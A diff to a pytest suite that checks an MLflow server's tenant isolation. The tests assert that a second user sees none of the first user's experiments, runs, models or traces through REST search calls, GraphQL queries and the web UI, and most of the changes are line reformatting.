+            lambda: c.search_traces(experiment_ids=[b.experiment_id, a.experiment_id]),
+        )
     assert seen == {
         "experiments": [b.experiment],
         "runs": [b.run_id],
@@ -711,11 +532,19 @@ def test_bobs_searches_and_lists_show_none_of_alices_objects(isolated: Isolated)
     check_refused([mixed_traces], 1)  # refused as a whole, not filtered
     bob = isolated.bob
     raw = [
-        bob.request("POST", "/ajax-api/2.0/mlflow/experiments/search", json={"max_results": 1000, "view_type": "ALL"}),
+        bob.request(
+            "POST", "/ajax-api/2.0/mlflow/experiments/search", json={"max_results": 1000, "view_type": "ALL"}
+        ),
         bob.request("GET", f"{API}/registered-models/search", params={"filter": f"name = '{a.model}'"}),
-        bob.request("GET", f"{API}/registered-models/search", params={"filter": "tags.`mlflow.prompt.is_prompt` = 'true'"}),
+        bob.request(
+            "GET",
+            f"{API}/registered-models/search",
+            params={"filter": "tags.`mlflow.prompt.is_prompt` = 'true'"},
+        ),
         bob.request("GET", f"{API}/model-versions/search", params={"filter": f"name = '{a.prompt}'"}),
-        bob.request("POST", f"{API}/runs/search", json={"experiment_ids": [a.experiment_id, b.experiment_id]}),
+        bob.request(
+            "POST", f"{API}/runs/search", json={"experiment_ids": [a.experiment_id, b.experiment_id]}
+        ),
         bob.request("POST", f"{API}/logged-models/search", json={"experiment_ids": [a.experiment_id]}),
         bob.request("GET", f"{API}/traces", params={"experiment_ids": b.experiment_id}),
     ]
@@ -723,31 +552,47 @@ def test_bobs_searches_and_lists_show_none_of_alices_objects(isolated: Isolated)
     assert [isolated.leaks(response.text) for response in raw] == [[]] * len(raw)
 
 
+def gql(field: str, arguments: str, selection: str) -> str:
+    return f"{{ {field}(input: {{{arguments}}}) {{ {selection} }} }}"
+
+
 def test_graphql_shows_bob_none_of_alices_objects(isolated: Isolated) -> None:
     a, b = isolated.a, isolated.b
+    both = f'["{b.experiment_id}", "{a.experiment_id}"]'
     queries = {
-        "mlflowGetExperiment": f'{{ mlflowGetExperiment(input: {{experimentId: "{a.experiment_id}"}}) {{ experiment {{ name }} }} }}',
-        "mlflowGetRun": f'{{ mlflowGetRun(input: {{runId: "{a.run_id}"}}) {{ run {{ info {{ runName }} }} }} }}',
-        "mlflowListArtifacts": f'{{ mlflowListArtifacts(input: {{runId: "{a.run_id}"}}) {{ files {{ path }} }} }}',
-        "mlflowGetMetricHistoryBulkInterval": (
-            f'{{ mlflowGetMetricHistoryBulkInterval(input: {{runIds: ["{a.run_id}"], metricKey: "accuracy"}})'
-            " { metrics { value } } }"
+        "mlflowGetExperiment": gql(
+            "mlflowGetExperiment", f'experimentId: "{a.experiment_id}"', "experiment { name }"
         ),
-        "mlflowSearchModelVersions": '{ mlflowSearchModelVersions(input: {}) { modelVersions { name version } } }',
-        "mlflowSearchRuns": (
-            f'{{ mlflowSearchRuns(input: {{experimentIds: ["{b.experiment_id}", "{a.experiment_id}"]}})'
-            " { runs { info { runId experimentId } experiment { name } modelVersions { name } } } }"
+        "mlflowGetRun": gql("mlflowGetRun", f'runId: "{a.run_id}"', "run { info { runName } }"),
+        "mlflowListArtifacts": gql("mlflowListArtifacts", f'runId: "{a.run_id}"', "files { path }"),
+        "mlflowGetMetricHistoryBulkInterval": gql(
+            "mlflowGetMetricHistoryBulkInterval",
+            f'runIds: ["{a.run_id}"], metricKey: "accuracy"',
+            "metrics { value }",
         ),
-        "mutation mlflowSearchRuns": (
-            f'mutation {{ mlflowSearchRuns(input: {{experimentIds: ["{a.experiment_id}"]}}) {{ runs {{ info {{ runId }} }} }} }}'
+        "mlflowSearchModelVersions": gql("mlflowSearchModelVersions", "", "modelVersions { name version }"),
+        "mlflowSearchRuns": gql(
+            "mlflowSearchRuns",
+            f"experimentIds: {both}",
+            "runs { info { runId experimentId } experiment { name } modelVersions { name } }",
         ),
-        "mutation mlflowSearchDatasets": (
-            f'mutation {{ mlflowSearchDatasets(input: {{experimentIds: ["{a.experiment_id}"]}}) {{ datasetSummaries {{ name }} }} }}'
-        ),
+        "mutation mlflowSearchRuns": "mutation "
+        + gql("mlflowSearchRuns", f'experimentIds: ["{a.experiment_id}"]', "runs { info { runId } }"),
+        "mutation mlflowSearchDatasets": "mutation "
+        + gql("mlflowSearchDatasets", f'experimentIds: ["{a.experiment_id}"]', "datasetSummaries { name }"),
     }
-    answers = {name: isolated.bob.json("POST", "/graphql", json={"query": query}) for name, query in queries.items()}
-    assert {name: isolated.leaks(json.dumps(answer)) for name, answer in answers.items()} == {name: [] for name in queries}
-    for name in ("mlflowGetExperiment", "mlflowGetRun", "mlflowListArtifacts", "mlflowGetMetricHistoryBulkInterval"):
+    answers = {
+        name: isolated.bob.json("POST", "/graphql", json={"query": query}) for name, query in queries.items()
+    }
+    assert {name: isolated.leaks(json.dumps(answer)) for name, answer in answers.items()} == {
+        name: [] for name in queries
+    }
+    for name in (
+        "mlflowGetExperiment",
+        "mlflowGetRun",
+        "mlflowListArtifacts",
+        "mlflowGetMetricHistoryBulkInterval",
+    ):
         assert answers[name]["data"] == {name: None}, answers[name]
     versions = answers["mlflowSearchModelVersions"]["data"]["mlflowSearchModelVersions"]["modelVersions"]
     assert sorted((v["name"], v["version"]) for v in versions) == sorted((b.model, v) for v in b.versions)
@@ -806,8 +651,14 @@ def test_the_mlflow_ui_shows_bob_none_of_alices_experiments_or_models(isolated: 
         pytest.skip(f"{chromium} is missing: `make test` installs Debian's chromium (apt-get, as root)")
     shots = Path(__file__).resolve().parents[2] / "test-output" / "screenshots"
     shots.mkdir(parents=True, exist_ok=True)
-    a, b = isolated.a, isolated.b
-    args = ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking", "--disable-sync"]
+    b = isolated.b
+    args = [
+        "--no-sandbox",
+        "--disable-gpu",
+        "--no-first-run",
+        "--disable-background-networking",
+        "--disable-sync",
+    ]
     with sync_api.sync_playwright() as playwright:
         browser = playwright.chromium.launch(executable_path=str(chromium), args=args)
         try:
